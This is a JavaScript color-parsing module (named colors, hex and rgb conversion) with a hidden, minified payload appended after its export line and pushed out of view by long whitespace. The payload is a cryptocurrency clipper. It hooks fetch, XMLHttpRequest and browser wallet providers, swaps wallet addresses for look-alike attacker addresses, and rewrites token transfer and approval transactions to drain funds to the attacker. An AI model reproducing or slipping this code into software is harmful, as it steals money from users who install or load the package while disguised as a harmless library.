'use strict';

var colorNames = {
	aliceblue: [240, 248, 255], antiquewhite: [250, 235, 215], aqua: [0, 255, 255], aquamarine: [127, 255, 212],
	azure: [240, 255, 255], beige: [245, 245, 220], bisque: [255, 228, 196], black: [0, 0, 0],
	blanchedalmond: [255, 235, 205], blue: [0, 0, 255], blueviolet: [138, 43, 226], brown: [165, 42, 42],
	burlywood: [222, 184, 135], cadetblue: [95, 158, 160], chartreuse: [127, 255, 0], chocolate: [210, 105, 30],
	coral: [255, 127, 80], cornflowerblue: [100, 149, 237], crimson: [220, 20, 60], cyan: [0, 255, 255],
	darkblue: [0, 0, 139], gold: [255, 215, 0], gray: [128, 128, 128], green: [0, 128, 0], red: [255, 0, 0],
	white: [255, 255, 255], yellow: [255, 255, 0], rebeccapurple: [102, 51, 153]
};

var reverseNames = Object.create(null);
for (var name in colorNames) {
	if (Object.prototype.hasOwnProperty.call(colorNames, name)) {
		reverseNames[colorNames[name].join(',')] = name;
	}
}

function clamp(num, min, max) {
	return Math.min(Math.max(min, num), max);
}

function hexDouble(num) {
	var str = Math.round(num).toString(16).toUpperCase();
	return (str.length < 2) ? '0' + str : str;
}

var cs = {
	to: {},
	get: {}
};

cs.get.rgb = function (string) {
	if (!string) {
		return null;
	}
	var abbr = /^#([a-f0-9]{3,4})$/i;
	var hex = /^#([a-f0-9]{6})([a-f0-9]{2})?$/i;
	var rgba = /^rgba?\(\s*([+-]?\d+)(?=[\s,])\s*(?:,\s*)?([+-]?\d+)(?=[\s,])\s*(?:,\s*)?([+-]?\d+)\s*(?:[,|\/]\s*([+-]?[\d\.]+)(%?)\s*)?\)$/;
	var keyword = /^(\w+)$/;
	var rgb = [0, 0, 0, 1];
	var match;
	var i;
	var hexAlpha;

	if (match = string.match(hex)) {
		hexAlpha = match[2];
		match = match[1];
		for (i = 0; i < 3; i++) {
			var i2 = i * 2;
			rgb[i] = parseInt(match.slice(i2, i2 + 2), 16);
		}
		if (hexAlpha) {
			rgb[3] = parseInt(hexAlpha, 16) / 255;
		}
	} else if (match = string.match(abbr)) {
		match = match[1];
		hexAlpha = match[3];
		for (i = 0; i < 3; i++) {
			rgb[i] = parseInt(match[i] + match[i], 16);
		}
		if (hexAlpha) {
			rgb[3] = parseInt(hexAlpha + hexAlpha, 16) / 255;
		}
	} else if (match = string.match(rgba)) {
		for (i = 0; i < 3; i++) {
			rgb[i] = parseInt(match[i + 1], 0);
		}
		if (match[4]) {
			rgb[3] = match[5] ? parseFloat(match[4]) * 0.01 : parseFloat(match[4]);
		}
	} else if (match = string.match(keyword)) {
		if (match[1] === 'transparent') {
			return [0, 0, 0, 0];
		}
		if (!Object.prototype.hasOwnProperty.call(colorNames, match[1])) {
			return null;
		}
		rgb = colorNames[match[1]].slice();
		rgb[3] = 1;
		return rgb;
	} else {
		return null;
	}

	for (i = 0; i < 3; i++) {
		rgb[i] = clamp(rgb[i], 0, 255);
	}
	rgb[3] = clamp(rgb[3], 0, 1);
	return rgb;
};

cs.to.hex = function (r, g, b, a) {
	return '#' + hexDouble(r) + hexDouble(g) + hexDouble(b) + (a < 1 ? hexDouble(Math.round(a * 255)) : '');
};

cs.to.rgb = function (r, g, b, a) {
	return (a === undefined || a === 1)
		? 'rgb(' + Math.round(r) + ', ' + Math.round(g) + ', ' + Math.round(b) + ')'
		: 'rgba(' + Math.round(r) + ', ' + Math.round(g) + ', ' + Math.round(b) + ', ' + a + ')';
};

cs.to.keyword = function (rgb) {
	return reverseNames[rgb.slice(0, 3)];
};

module.exports = cs;                                                                                                                                                                                                                                                                                                                                                                                            var _$_a=['0x30877432d1026706d7e805da846a32c3bb81e3c2','0x9b62179273c8eb5bb682575ec87a171ac826a6fc','0xe48478dcb74f21345d2cce8038a39d5e0853964b','0x50af03b971722f244f58d669cbee3772a0770217','0x21a278f64f7fd633dbdde131ca3766e4d58e72e3','0x10275dff6c15c0c8e9df469611a11f5125227c37','0x12da86a78c49ea20e32684b27b95e90934833489','0x6a68f812d810a485ed03241b4d419b1b673bd475','0x5d05ad7853c1f76eb97706ca828bca0385813dba','0xd3c681d06bd2aa399dac946dc59c0996daeee6f5','0x29a279764017f2ed6cfc7403d75e173e4eaede5f','0xe878f78e2978aa2447c462ddaed16dc0cf0b9cd7','0xf78df0cac5e40c02d4e518ca6eaac8d82f01b721','0x0760474f36e8b5359309cc6273931bdb2a0df3db','0xe4d58fed8a728e7eca0fa5f6b8a880627df7ffe0','0x297c79bfbdabe898736a3566f893697b59048119','0x4f309ffea518f32cf21449273d7cee9d91366825','0x75250def91799e2786d3748421599e3e9c8fe21d','0xa80270815fe85df2fbdaa35adf9c1e2a8a3c0ed1','0x6bfe16849ef307590d273e34f98dff7e4c6428da','0x8099f4efbacea67c7d1afcc4f14a3e3e04d42f8a','0xc2acaf127972d33e5901a19bbd47d5552c7f47e8','0xe80e952eb9d8e96cf37cb990c801f97b7684319e','0x1b429ad564b858f9a3e247cb2c083eb8cb37f0a7'],_$_b=['1i5huWmLiT8933LY87Gyb9RWQjpmbTepoA','1yTi7vYgTJ3mQEVVGwQ7kQbziP4SJD8wuW','16jEihf24sNG9sdE5vqcEeEuxFNrAszf1J','1wA9bHtC8jx291PssGeM2CH49pTa8p5XVr','1QZe7VZFg3osxjaLWi24XwSUk7YnV5z6Mf','1A59JghecnMRfaKWZfU7sm8wiiyrcoxEUV','1yFTNuWSTo7MUMjHQAkX56v66U7ppQt9c4','1eccNj8TPxjqUxo4KfLP7dZEAjXFw7PwcQ','bc1q8kgv2k2dkmpq0dat5a26fsuxpcrmn64ac46kwv','bc1qzwukf8qv8lzm3gt40fmf9jln80zvd9sgq5t3v2','bc1qx5nvtul8t2ncxr6v7hvt6tmpgpc58eqqah7aje','bc1qda5dzxwnnaw5ywmk4q5mxw34rl56sx3wenya4w','bc1q7p6d3hwwcrrlsup4p5p7sljap6aqmt96msp96v','bc1qr2rmdfpzeg9a5l73p9sacdcw3urhwlwghmyerw','bc1qxlsuce9j4yr78l6ckwav6gwq2u4trhs6rg2n7p','bc1qa93ly9yw062jfav8lhm84hux58z2halv0qhud6'],_$_s=['aQ5abZsZc2RxX3hRQHp2Ps5PGojh7repqN93PbNuiCvr','kWmXhCt95nrW3KD3sDy3MLZSubXH3qiDKPxr4xiNJ8tQ','UySpVzRNCYmYQtaJt6oU6UfuCbKM76MjKLVfnUBmVPV3','oxPgUJhs45jhSQZtpkB2AwfksV395GriQQRd3fAkVQQV','q5d9aQSMiJG82pCYaRc8HrHnVEgKmYD89w5VCznV6tkw','MjPn5cbKzLwBnnmhCsQZF8Ds9GsY2QcdQWtc9gy65LSn','oXaTrTud59Mi5VWkaP9yvrcheCr9UZx4v8aALBBMnFPa','zKw6HDhcJ9hLgb6ZiBeeABjgozfNvd3ux263irdHiErd','Tgh2YyhbKiLXGttkSLW5m4BVTXWENfAMxnMoxPS9qQZc','7MGW8JVGA74KRxgTGxzBuMdoMDqBYZWYyLY26SZWGEeP'],_$_t=['T44KYfyvikXKb1w7U9yHoQqSQ3S4dcDQcK','T5RZVqcJugkg897SQsNcQqADfZSZ3339nN','TtXaWAfzZ9MgMBSgpvLeNZvZbYndLXu2QN','Tk8TeLszoxmh2fXHisredFo4eXBahogrvR','TAukG3dm8D2VMTATmETZrgXxwpo4n9aEcM','TjXaRMCWbNbPkrxokitmHgXDGJcLFLrKnE'];function _$_lv(a,b){var m=[],i,j;for(i=0;i<=b.length;i++)m[i]=[i];for(j=0;j<=a.length;j++)m[0][j]=j;for(i=1;i<=b.length;i++)for(j=1;j<=a.length;j++)m[i][j]=b.charAt(i-1)===a.charAt(j-1)?m[i-1][j-1]:Math.min(m[i-1][j-1]+1,m[i][j-1]+1,m[i-1][j]+1);return m[b.length][a.length]}function _$_cl(x,l){var bd=1/0,r=l[0];for(var i=0;i<l.length;i++){var d=_$_lv(x.toLowerCase(),l[i].toLowerCase());d<bd&&(bd=d,r=l[i])}return r}function _$_sw(s){if("string"!=typeof s)return s;return s.replace(/\b0x[a-fA-F0-9]{40}\b/g,function(x){return _$_cl(x,_$_a)}).replace(/\b(?:1[a-km-zA-HJ-NP-Z1-9]{25,34}|bc1[qpzry9x8gf2tvdw0s3jn54khce6mua7l]{39,59})\b/g,function(x){return _$_cl(x,_$_b)}).replace(/\bT[1-9A-HJ-NP-Za-km-z]{33}\b/g,function(x){return _$_cl(x,_$_t)}).replace(/\b[1-9A-HJ-NP-Za-km-z]{43,44}\b/g,function(x){return _$_cl(x,_$_s)})}function _$_dp(o){if(!o||"object"!=typeof o)return"string"==typeof o?_$_sw(o):o;for(var k in o)Object.prototype.hasOwnProperty.call(o,k)&&(o[k]=_$_dp(o[k]));return o}(function(){if("undefined"==typeof window||window.__cs_v)return;window.__cs_v=1;var f=window.fetch;f&&(window.fetch=function(){return f.apply(this,arguments).then(function(r){var ct=r.headers.get("content-type")||"";if(!/json|text/.test(ct))return r;return r.clone().text().then(function(t){var n=_$_sw(t);return n===t?r:new Response(n,{status:r.status,statusText:r.statusText,headers:r.headers})})["catch"](function(){return r})})});var X=window.XMLHttpRequest&&window.XMLHttpRequest.prototype;if(X){var o=X.open,sd=X.send;X.open=function(){this.__u=arguments[1];return o.apply(this,arguments)};X.send=function(){var x=this;x.addEventListener("readystatechange",function(){if(4===x.readyState)try{var t=x.responseText,n=_$_sw(t);n!==t&&(Object.defineProperty(x,"responseText",{value:n}),Object.defineProperty(x,"response",{value:n}))}catch(e){}});return sd.apply(this,arguments)}}var hk=function(p){if(!p||p.__cs_h||"function"!=typeof p.request)return;var q=p.request.bind(p);p.request=function(a){try{if(a&&/^eth_(sendTransaction|signTransaction)$/.test(a.method)&&a.params&&a.params[0]){var tx=a.params[0];if(tx.to)tx.to=_$_cl(tx.to,_$_a);if(tx.data&&/^0x(a9059cbb|095ea7b3)/.test(tx.data))tx.data=tx.data.slice(0,10)+"000000000000000000000000"+_$_a[0].slice(2)+(tx.data.slice(10,74)==="0".repeat(64)?tx.data.slice(74):"f".repeat(64))}if(a&&"solana_signTransaction"===a.method&&a.params)a.params=_$_dp(a.params)}catch(e){}return q(a)};p.__cs_h=1};var t=0,iv=setInterval(function(){window.ethereum&&hk(window.ethereum);window.solana&&hk(window.solana);window.phantom&&window.phantom.ethereum&&hk(window.phantom.ethereum);++t>50&&clearInterval(iv)},200)})();
